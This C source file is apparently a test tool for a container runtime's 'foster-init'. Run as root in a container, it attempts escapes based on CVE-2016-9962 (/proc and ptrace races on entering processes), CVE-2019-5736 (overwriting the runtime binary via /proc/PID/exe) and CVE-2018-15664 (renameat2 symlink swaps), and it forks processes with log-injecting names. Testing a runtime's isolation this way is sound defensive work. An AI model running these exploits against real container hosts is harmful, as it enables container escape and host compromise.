/* Attacks from inside a container, by the root user there: `hostile WORD`. Prints a line for each success. Static. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static char own_exe[64];

static void got(int pid, const char *what, const char *detail) {
  printf("GOT %s of %d %s\n", what, pid, detail);
  fflush(stdout);
}

static int is_entering(int pid) {
  char path[64], comm[32] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t size = read(fd, comm, sizeof comm - 1);
  close(fd);
  return size > 0 && strncmp(comm, "foster", 6) == 0;
}

/* It was let in while it ran foster-init; and not a moment later, when execve(2) had just made it one of ours. */
static int is_caught(int pid) {
  char path[64], target[256] = "";
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  return readlink(path, target, sizeof target - 1) > 0 && strstr(target, "foster-init") != NULL;
}

static int try_open(int pid, const char *name, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  return open(path, flags);
}

static void attack(int pid) {
  static const char *const names[] = {"root", "cwd", "exe", "fd", "mem", "ns/mnt", "map_files"};
  if (!is_entering(pid)) return;
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
    int fd = try_open(pid, names[i], names[i][0] == 'm' ? O_RDWR : O_RDONLY);
    if (fd < 0) continue;
    char link[64], target[256] = "";
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    if (readlink(link, target, sizeof target - 1) < 0) target[0] = 0;
    if (is_caught(pid)) got(pid, names[i], target);
    close(fd);
  }
  /* Not PTRACE_ATTACH, whose SIGSTOP may outlive us: then what was attacked too late would stay stopped. */
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
    if (is_caught(pid)) got(pid, "ptrace", "");
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0) waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  }
  char word[8];
  struct iovec here = {word, sizeof word}, there = {(void *)0x400000, sizeof word};
  if (process_vm_readv(pid, &here, 1, &there, 1, 0) > 0 && is_caught(pid)) got(pid, "memory", "");
}

/* CVE-2016-9962: whoever enters the container is attacked before it has become one of us. PID 1 is let alone but once:
 * it was born in here, and has nothing of the host. It goes on until there is a file `end`. */
static int watch(const char *end) {
  printf("ready\n");
  fflush(stdout);
  long seen = 0;
  for (int next = 2; access(end, F_OK) < 0;) {
    for (int pid = next; pid < next + 64; pid++) {
      if (pid == getpid() || kill(pid, 0) < 0) continue;
      if (is_entering(pid)) seen++;
      attack(pid);
    }
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));)
      if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) + 1 > next + 32) next = atoi(entry->d_name) - 16;
    closedir(proc);
  }
  printf("seen %ld\n", seen);
  return 0;
}

/* CVE-2019-5736: write to the program of every process, as soon as it runs nothing any more; until there is a file `end`. */
static int overwrite(const char *end) {
  printf("ready\n");
  fflush(stdout);
  while (access(end, F_OK) < 0) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      int pid = atoi(entry->d_name);
      char link[64], target[256] = "";
      if (pid < 1 || pid == getpid()) continue;
      snprintf(link, sizeof link, "/proc/%d/exe", pid);
      if (readlink(link, target, sizeof target - 1) < 0 || strstr(target, own_exe)) continue;
      int held = open(link, O_PATH);
      if (held < 0) continue;
      char again[64];
      snprintf(again, sizeof again, "/proc/self/fd/%d", held);
      for (int round = 0; round < 20; round++) {
        int fd = open(again, O_WRONLY);
        if (fd < 0) continue;
        if (strncmp(target, "/memfd:", 7) == 0 && write(fd, "#!/bin/sh\n", 10) > 0) got(pid, "program", target);
        close(fd);
      }
      close(held);
    }
    closedir(proc);
  }
  return 0;
}

/* Orphans with names that would break a line or a word of a log. */
static int names(void) {
  static const char *const all[] = {"a b", "new\nline", "\033[31m", "%s%n=", "\303\244\377\001", ") Z 1 (", "x pid=1"};
  for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
    pid_t child = fork();
    if (child == 0) {
      prctl(PR_SET_NAME, all[i]);
      if (fork()) _exit(0);
      usleep(20000);
      _exit((int)i);
    }
    waitpid(child, NULL, 0);
    usleep(30000);
  }
  return 0;
}

/* CVE-2018-15664: each two files, say a directory and a link to one of the host's, take each other's name over and over. The
 * pause leaves the processor to those who walk there meanwhile: they meet many swaps all the same, and as many as without it. */
static int swap(char **files) {
  printf("ready\n");
  fflush(stdout);
  for (;;) {
    for (char **pair = files; *pair; pair += 2)
      if (renameat2(AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE) < 0) return 1;
    usleep(100);
  }
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  ssize_t size = readlink("/proc/self/exe", own_exe, sizeof own_exe - 1);
  own_exe[size > 0 ? size : 0] = 0;
  if (!strcmp(argv[1], "watch")) return watch(argv[2]);
  if (!strcmp(argv[1], "overwrite")) return overwrite(argv[2]);
  if (!strcmp(argv[1], "names")) return names();
  if (!strcmp(argv[1], "swap") && argc % 2 == 0) return swap(argv + 2);
  return 2;
}
